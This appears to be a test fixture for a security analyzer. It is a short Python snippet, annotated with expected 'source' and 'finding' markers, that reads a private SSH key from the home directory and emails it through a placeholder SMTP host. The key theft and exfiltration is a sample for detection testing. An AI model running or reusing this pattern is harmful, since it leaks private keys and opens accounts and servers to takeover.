import os
import smtplib

body = open(os.path.expanduser("~/.ssh/id_ed25519")).read()  # want: source
server = smtplib.SMTP("smtp.example.net", 587)
server.sendmail("mailer@localhost", ["inbox@example.org"], body)  # want: finding
